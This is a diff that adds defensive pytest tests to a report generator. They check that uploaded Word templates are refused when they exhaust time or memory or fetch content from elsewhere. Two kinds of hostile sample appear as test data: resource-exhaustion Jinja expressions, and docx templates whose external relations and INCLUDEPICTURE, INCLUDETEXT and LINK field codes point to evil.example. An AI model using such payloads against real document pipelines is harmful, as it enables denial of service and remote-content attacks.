@@ -6,11 +6,16 @@ from dataclasses import replace
 
 import docx
 import pytest
+from docx.oxml.ns import qn
 
+from succession import limited
 from succession.errors import InvalidInput
+from succession.reports import word as word_module
 from succession.reports.word import starting_template, try_template, word
 from succession.reports.workbook import template
 from tests.reports.test_pdf import DOCUMENT
+
+_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
 def _read(data: bytes) -> docx.document.Document:
@@ -111,6 +116,75 @@ def test_a_template_that_unpacks_to_more_than_the_memory_is_refused() -> None:
         file.writestr("word/document.xml", bytes(60_000_000))
     with pytest.raises(InvalidInput, match="meegeleverde sjabloon"):
         word(DOCUMENT, data.getvalue())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "{% if titel != 'Proef' %}{% for a in range(99999) %}{% for b in range(99999) %}"
+        "{% endfor %}{% endfor %}{% endif %}",
+        "{{ ('a'*2000000000)|length }}",
+        "{{ 'a'.ljust(3000000000)|length }}",
+    ],
+)
+def test_a_template_that_takes_too_much_is_stopped(
+    text: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(word_module, "_LIMIT", limited.Limit(seconds=5, memory=2**30))
+    with pytest.raises(InvalidInput, match=r"meer tijd of geheugen|kan niet worden gebruikt"):
+        word(DOCUMENT, _template("{{ titel }}", text))
+
+
+def _with_relation(kind: str, target: str) -> bytes:
+    own, data = docx.Document(io.BytesIO(starting_template())), io.BytesIO()
+    own.part.relate_to(target, f"{_RELATION}/{kind}", is_external=True)
+    own.save(data)
+    return data.getvalue()
+
+
+def _with_field(*runs: str) -> bytes:
+    """With a field whose instruction is divided over these runs."""
+    own, data = docx.Document(io.BytesIO(starting_template())), io.BytesIO()
+    paragraph = own.add_paragraph()
+    for text in runs:
+        run = paragraph.add_run()
+        run._r.append(run._r.makeelement(qn("w:instrText"), {}))
+        run._r[-1].text = text
+    own.save(data)
+    return data.getvalue()
+
+
+@pytest.mark.parametrize(
+    "own",
+    [
+        _with_relation("attachedTemplate", "http://evil.example/t.dotm"),
+        _with_relation("image", "file://evil.example/een.png"),
+        _with_relation("oleObject", "http://evil.example/x.bin"),
+        _with_field('INCLUDEPICTURE "http://evil.example/a.png"'),
+        _with_field("INCLUDE", 'PICTURE "http://evil.example/a.png"'),
+        _with_field("{{ 'INCLUDE' ~ 'TEXT' }}", ' "http://evil.example/a.docx"'),
+        _with_field('LINK Excel.Sheet "http://evil.example/a.xlsx"'),
+    ],
+    ids=("template", "image", "object", "picture", "split", "made", "link"),
+)
+def test_a_template_that_fetches_something_elsewhere_is_refused(own: bytes) -> None:
+    with pytest.raises(InvalidInput, match="van buiten het bestand"):
+        try_template(own)
+
+
+def test_a_link_to_click_on_and_the_number_of_the_page_may_stay() -> None:
+    try_template(_with_relation("hyperlink", "https://zorggroep.example"))
+    try_template(_with_field("PAGE", ' HYPERLINK "https://zorggroep.example"'))
+
+
+def test_nothing_tells_with_which_library_it_was_made() -> None:
+    for data in (word(DOCUMENT), starting_template(), word(DOCUMENT, _template("{{ titel }}"))):
+        properties = _read(data).core_properties
+        assert (properties.author, properties.comments) == ("", "")
+        with zipfile.ZipFile(io.BytesIO(data)) as file:
+            assert not any(b"python" in file.read(name) for name in file.namelist())
+    with zipfile.ZipFile(io.BytesIO(word(DOCUMENT))) as file:
+        assert not [name for name in file.namelist() if "thumbnail" in name]
 
 
 def test_a_template_is_tried_with_a_document_that_has_everything() -> None:
